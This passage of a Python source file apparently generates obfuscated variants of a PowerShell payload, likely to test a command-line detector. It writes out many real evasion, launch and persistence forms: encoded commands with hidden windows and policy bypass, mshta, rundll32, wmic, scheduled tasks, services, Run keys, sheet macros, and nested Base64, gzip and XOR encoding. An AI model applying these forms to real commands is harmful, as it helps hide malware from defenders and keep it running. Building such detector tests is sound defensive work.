    "semicolons": lambda p: f";;;$a={q(p[:5])};;$b={q(p[5:])};;;iex($a+$b);;",
    "call operator and blanks": lambda p: f"  &   (  'i'  +  'ex'  )   {q(p)}",
    "typographic quotes": lambda p: f"iex (\u2018{p[:6]}\u2019+{q(p[6:])})" if "'" not in p[:6] else f"iex {q(p)}",
    "typographic dashes": lambda p: f"iex \u2013Command ({quoted(p, 4)} \u2014join '')",
    "no-break spaces": lambda p: f"iex\u00a0({quoted(p, 2, chr(160) + '+' + chr(160))})",
}  # fmt: skip

TREES: Forms = {  # the same syntax tree, with parts in another order
    "parameters": lambda p: f"New-Variable -Value ({quoted(p, 2, '+')}) -Force -Name t;Invoke-Expression -Command $t",
    "pipeline for argument": lambda p: f"({quoted(p, 2, '+')})|Set-Variable -Name t;$t|Invoke-Expression",
    "assigned piecewise": lambda p: f"$t=[string]{q(p[:5])};$t=-join($t,{q(p[5:])});Invoke-Expression $t",
    "operators for methods": lambda p: f"iex ({q(p.replace('t', '~~'))} -split '~~' -join 't')",
    "methods for operators": lambda p: f"iex ([string]::Join('t',{q(p.replace('t', '~'))}.Split('~')))",
    "a block more": lambda p: f"&{{.{{iex ({quoted(p, 3, '+')})}}}}",
    "function for block": lambda p: f"function b{{param($y,$x)$x+$y}}\n$t=b -x {q(p[:6])} -y {q(p[6:])};iex $t",
    "hashtable for parameters": lambda p: f"$p=@{{Command={quoted(p, 2, '+')}}};Invoke-Expression @p",
    "loop turned": lambda p: f"$n=0;$t='';do{{$t+=({quoted(p, 4)})[$n];$n+=1}}while($n -ne 4);iex $t",
}  # fmt: skip


def _handed(templates: dict[str, str]) -> Forms:
    """Return forms in which ENC is the payload as -EncodedCommand takes it, and HALF/REST are its parts."""

    def form(template: str) -> Callable[[str], str]:
        def text(p: str) -> str:
            encoded = b64(p)
            half, rest = encoded[:20], encoded[20:]
            return template.replace("ENC", encoded).replace("HALF", half).replace("REST", rest)

        return text

    return {name: form(template) for name, template in templates.items()}


HANDED_OVER = _handed({
    "powershell -EncodedCommand": "powershell -EncodedCommand ENC",
    "powershell.exe, many": "powershell.exe -NoLogo -NoP -NonI -W Hidden -Exec Bypass -Enc ENC",
    "pwsh": "pwsh -nop -e ENC",
    "slash": "powershell /nop /enc ENC",
    "colon": "powershell -enc:ENC",
    "quoted": "powershell -enc \"ENC\"",
    "quoted parameters": "powershell \"-NoProfile\" \"-EncodedCommand\" \"ENC\"",
    "dash of another kind": "powershell \u2013nop \u2014enc ENC",
    "path": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -ec ENC",
    "path with blanks": "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoProfile -EncodedCommand ENC",
    "path with brackets": "\"C:\\Program Files (x86)\\PowerShell\\7\\pwsh.exe\" -EncodedCommand ENC",
    "%SystemRoot%": "%SystemRoot%\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w 1 -enc ENC",
    "%COMSPEC%": "%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -encodedcommand ENC",
    "cmd /c": "cmd /c powershell -nop -enc ENC",
    "cmd /c, quotes": "cmd.exe /c \"powershell -nop -enc ENC\"",
    "cmd /k": "cmd /q /k powershell -enc ENC",
    "cmd, carets": "cmd /c p^ow^er^shell -n^op -e^n^c ENC",
    "cmd, carets in Base64": "cmd /c powershell -enc HALF^REST",
    "cmd, quotes in a parameter": "cmd /c powershell -e\"\"n\"\"c ENC",
    "cmd, quotes in Base64": "cmd /c powershell -enc HALF\"\"REST",
    "cmd, quotes in the name": "cmd /c pow\"\"ersh\"\"ell -enc ENC",
    "cmd, variable": "cmd /c \"set x=ENC&& call powershell -enc %x%\"",
    "cmd, variable of the name": "cmd /c \"set p=power&& call %p%shell -enc ENC\"",
    "cmd, delayed": "cmd /v:on /c \"set a=pow&set b=ershell&!a!!b! -enc ENC\"",
    "batch": "@echo off\r\nset code=ENC\r\npowershell -nop -enc %code%\r\n",
    "batch, line ends": "@echo off\r\npowershell -nop ^\r\n  -w hidden ^\r\n  -enc ENC\r\nexit /b\r\n",
    "start": "start \"\" /min powershell -enc ENC",
    "redirected": "powershell -enc ENC > C:\\Temp\\log.txt 2>&1",
    "call operator": "& powershell -NoProfile -EncodedCommand ENC",
    "call operator, path": "& \"$PSHOME\\powershell.exe\" -NoProfile -EncodedCommand ENC",
    "call operator, path by variable": "& \"$env:windir\\sysnative\\WindowsPowerShell\\v1.0\\powershell.exe\" -enc ENC",
    "call operator, sum": "&('power'+'shell') -enc ENC",
    "call operator, variable": "$p='powershell.exe';& $p -nop -enc ENC",
    "command in a variable": "$c='powershell -nop -enc ENC';cmd /c $c",
    "command in a variable, iex": "$c='powershell -nop -enc ENC';iex $c",
    "value in a variable": "$b='HALF'+'REST';powershell -nop -enc $b",
    "value in brackets": "powershell -nop -enc ('HALF'+'REST')",
    "value expanded": "$a='HALF';$b='REST';powershell -enc \"$a$b\"",
    "arguments in a list": "$a='-nop','-enc','ENC';& powershell $a",
    "arguments splatted": "$a=@('-NoProfile','-EncodedCommand','ENC');powershell @a",
    "back-tick line ends": "powershell `\n -NoProfile `\n -EncodedCommand `\n ENC",
    "back-ticks": "po`wErSh`Ell -E`NC ENC",
    "Start-Process": "Start-Process powershell -ArgumentList '-NoProfile -EncodedCommand ENC' -Wait",
    "Start-Process, list": "Start-Process powershell -ArgumentList '-nop','-enc','ENC'",
    "Start-Process, @()": "Start-Process -FilePath powershell.exe -ArgumentList @('-w','hidden','-enc','ENC') -WindowStyle Hidden",
    "Start-Process, position": "Start-Process powershell.exe '-nop -enc ENC'",
    "Start-Process, -Args": "start powershell -Args \"-enc ENC\" -Verb runas",
    "Start-Process, saps": "saps -File pwsh -Arg ('-enc '+'ENC')",
    "Start-Process, expanded": "$b='ENC';Start-Process powershell.exe -ArgumentList \"-nop -enc $b\"",
    "Start-Process, -f": "Start-Process powershell ('-nop -enc {0}' -f 'ENC')",
    "Start-Process, splatted": "$p=@{FilePath='powershell';ArgumentList='-nop -enc ENC'};Start-Process @p",
    "Start-Process, splatted lines": (
        "$p = @{\n    FilePath = 'powershell.exe'\n    ArgumentList = '-NoProfile', '-EncodedCommand', 'ENC'\n"
        "    Wait = $true\n}\nStart-Process @p"
    ),
    "Start-Process, cmd": "Start-Process cmd -ArgumentList '/c powershell -enc ENC'",
    "Start-Process, variables": "$f='power'+'shell';$a='-e','ENC';Start-Process -FilePath $f -ArgumentList $a",
    "[Diagnostics.Process]::Start": "[Diagnostics.Process]::Start('powershell','-nop -enc ENC')",
    "ProcessStartInfo": (
        "$i=New-Object Diagnostics.ProcessStartInfo;$i.FileName='powershell';$i.Arguments='-nop -enc ENC';"
        "[Diagnostics.Process]::Start($i)"
    ),
    "ProcessStartInfo, given": (
        "$i=New-Object System.Diagnostics.ProcessStartInfo 'powershell.exe','-enc ENC';$i.UseShellExecute=$false;"
        "[System.Diagnostics.Process]::Start($i)"
    ),
    "Process.StartInfo": (
        "$p=New-Object Diagnostics.Process;$p.StartInfo.FileName='powershell.exe';"
        "$p.StartInfo.Arguments='-nop -enc '+'ENC';$p.Start()"
    ),
    "WScript.Shell": "(New-Object -ComObject WScript.Shell).Run('powershell -enc ENC',0)",
    "Shell.Application": "(New-Object -com Shell.Application).ShellExecute('powershell','-enc ENC','','open',0)",
    "Win32_Process": "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'powershell -enc ENC'",
    "Win32_Process, CIM": "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='powershell -enc ENC'}",
    "[wmiclass]": "([wmiclass]'Win32_Process').Create('powershell -nop -enc ENC')",
    "wmic": "wmic process call create \"powershell -nop -enc ENC\"",
    "schtasks": "schtasks /create /tn Update /sc daily /tr \"powershell -nop -enc ENC\"",
    "scheduled task": (
        "$a=New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-NoProfile -EncodedCommand ENC';"
        "Register-ScheduledTask Report -Action $a"
    ),
    "service": "sc create DiskReport binPath= \"powershell.exe -EncodedCommand ENC\"",
    "service, cmdlet": "New-Service -Name DiskReport -BinaryPathName 'cmd /c powershell -enc ENC'",
    "Run key": "reg add HKCU\\Software\\Example /v Report /d \"powershell -enc ENC\" /f",
    "Run key, cmdlet": "Set-ItemProperty HKCU:\\Software\\Example Report 'powershell -enc ENC'",
    "rundll32": "rundll32.exe SHELL32.DLL,ShellExec_RunDLL \"powershell\" \"-nop\" \"-enc\" \"ENC\"",
    "mshta": "mshta VBScript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run(\"\"powershell -enc ENC\"\"),0:close\")",
    "conhost": "conhost.exe --headless powershell -nop -enc ENC",
    "forfiles": "forfiles /p C:\\Windows /m explorer.exe /c \"powershell -enc ENC\"",
    "VBA": "Shell \"powershell -w hidden -enc ENC\", vbHide",
    "macro of a sheet": "=EXEC(\"powershell -nop -enc ENC\")",
    "macro of a sheet, call": "=CALL(\"Shell32\",\"ShellExecuteA\",\"JJCCCCJ\",0,\"open\",\"powershell\",\"-enc ENC\",\"\",0)",
    "-Version": "powershell -Version 5.1 -NoProfile -EncodedCommand ENC",
    "-WorkingDirectory": "pwsh -NoProfile -WorkingDirectory C:\\Temp -EncodedCommand ENC",
    "Invoke-Command": "Invoke-Command {powershell -nop -enc ENC}",
    "in a function": "function Go($b){powershell -nop -enc $b};Go 'ENC'",
    "in if": "if($PSVersionTable){powershell -enc ENC}",
    "two hosts": "powershell -c \"powershell -nop -enc ENC\"",
    "shortcut": "C:\\Windows\\System32\\cmd.exe /c start /min \"\" powershell -ep bypass -e ENC & exit",
    "script block of another": "powershell -nop -c \"& {powershell -enc ENC}\"",
})  # fmt: skip

COMMANDS: Forms = {  # for payloads without quotes, dollars, pipes and line ends
    "-Command, quotes": lambda p: f'powershell -nop -Command "{p}"',
    "-c, single quotes": lambda p: f"powershell -nop -c {q(p)}",
    "-Command, no quotes": lambda p: f"powershell -nop -Command {p}",
    "no parameter": lambda p: f"powershell {q(p)}",
    "-Command of a sum": lambda p: f"powershell -Command ({quoted(p, 2, '+')})",
    "-Command, block": lambda p: f"powershell -Command {{iex ({quoted(p, 2, '+')})}}",
    "iex within": lambda p: f'powershell -nop -c "iex ({quoted(p, 3, "+")})"',
    "iex within, escaped": lambda p: f'powershell -c "iex (\\"{{1}}{{0}}\\" -f {q(p[5:])},{q(p[:5])})"',
    "cmd /c": lambda p: f'cmd /c powershell -nop -c "{p}"',
    "cmd /c, quotes": lambda p: f'cmd /c "powershell -nop -c {p}"',
    "cmd, iex": lambda p: f'cmd.exe /c "powershell -nop -c iex({quoted(p, 2, "+")})"',
    "cmd, carets": lambda p: f'cmd /c po^wer^shell -c "iex ({quoted(p, 2, "+")})"',
    "variable of the environment": lambda p: f'cmd /c "set v={p}&&powershell -nop iex $env:v"',
    "variable, two": lambda p: f'cmd /c "set v={p}&&set w=powershell iex $env:v&&call cmd /c %w%"',
    "variable, Get-Item": lambda p: f'cmd /c "set v={p}&&powershell -nop iex (Get-Item Env:v).Value"',
    "standard input": lambda p: f'cmd /c "echo {p} | powershell -nop -"',
    "standard input, $input": lambda p: f'cmd /c "echo {p} | powershell -nop iex $input"',
    "standard input, nothing more": lambda p: f"echo {q(p)} | powershell -noprofile -",
    "clipboard": lambda p: (
        f'cmd /c "echo {p} | clip && powershell -sta Add-Type -AssemblyName System.Windows.Forms;'
        'iex ([Windows.Forms.Clipboard]::GetText())"'
    ),
    "rundll32": lambda p: f'rundll32 SHELL32.DLL,ShellExec_RunDLL "powershell" "-nop" "-c" "{p}"',
    "mshta": lambda p: f'mshta "VBScript:CreateObject(""WScript.Shell"").Run(""powershell -c {p}"",0)(Window.Close)"',
    "wmic": lambda p: f"wmic process call create 'powershell -nop -c \"{p}\"'",
    "Start-Process": lambda p: f"Start-Process powershell -ArgumentList '-nop','-Command',{q(p)}",
    "Start-Process, one string": lambda p: f"Start-Process powershell -ArgumentList '-nop -c \"{p}\"'",
    "Start-Process, sum": lambda p: f"Start-Process powershell ('-nop -c '+{q(p)})",
    "call operator": lambda p: f"& powershell.exe -nop -c {q(p)}",
    "call operator, variable": lambda p: f"$c={q(p)};powershell -nop -c $c",
    "WScript.Shell": lambda p: f"(New-Object -ComObject WScript.Shell).Run('powershell -nop -c \"{p}\"')",
    "Base64 within": lambda p: f'powershell -nop -c "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(\'{b64(p, "utf-8")}\')))"',
    "Base64 within, cmd": lambda p: f"cmd /c powershell -c \"$b='{b64(p)}';iex([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b)))\"",
    "gzip within": lambda p: (
        'powershell -nop -c "iex (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream((New-Object '
        f"IO.MemoryStream(,[Convert]::FromBase64String('{b64(gz(p))}'))),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()\""
    ),
    "reversed within": lambda p: f'powershell -c "$x=\'{p[::-1]}\';iex ($x[-1..-($x.Length)] -join \'\')"',
}  # fmt: skip

NESTED: Forms = {
    "-enc of -enc": lambda p: f"powershell -enc {b64(f'powershell -enc {b64(p)}')}",
    "-enc of gzip": lambda p: (
        "powershell -enc " + b64(
            "iex (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream("
            f",[Convert]::FromBase64String('{b64(gz(p))}'))),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()"
        )
    ),
    "characters of a sum": lambda p: f"iex (-join [char[]]({codes(f'iex ({quoted(p, 3, chr(43))})')}))",
    "Base64 of reversed of replaced": lambda p: (
        f"iex ({UTF8}({FROM64}('"
        + b64(f"iex (-join {q(_replaced(p)[::-1])}[-1..-{len(_replaced(p))}])", "utf-8") + "')))"
    ),
    "sums, three deep": lambda p: _sum(_sum(_sum(p))),
    "script block of a string of a block": lambda p: f"&([scriptblock]::Create({q(f'&([scriptblock]::Create({q(p)}))')}))",
    "hexadecimal of XOR": lambda p: (
        "iex (-join ('" + hexed(f"iex (-join ({codes(p, key=33)}|%{{[char]($_ -bxor 33)}}))")
        + "' -split '(..)'|?{$_}|%{[char][Convert]::ToInt32($_,16)}))"
    ),
    "every fifth of Base64": lambda p: (
        f"$s={q(stepped(b64(p, 'utf-8')))};$o='';for($i=4;$i -lt $s.Length;$i+=5){{$o+=$s[$i]}};"
        f"iex ({UTF8}({FROM64}($o)))"
    ),
    "pieces under several forms": lambda p: (
        "$a={}+{};$b=-join [char[]]({});$c=({} -replace '~','');iex ($a+$b+$c)".format(
            *map(q, pieces(p[: len(p) // 3], 2)), codes(p[len(p) // 3 : 9 + len(p) // 3]),
            q("~".join(p[9 + len(p) // 3 :])),
        )
    ),
    "a file written and run": lambda p: f"$t={FROM64}('{b64(p, 'utf-8')}');[IO.File]::WriteAllBytes(\"$env:TEMP\\a.ps1\",$t);& \"$env:TEMP\\a.ps1\"",
}  # fmt: skip


def _sum(text: str) -> str:
    return f"iex ({quoted(text, 2, '+')})"


def _replaced(text: str) -> str:
    return f"iex {q(text.replace('t', '~'))}.Replace('~','t')"
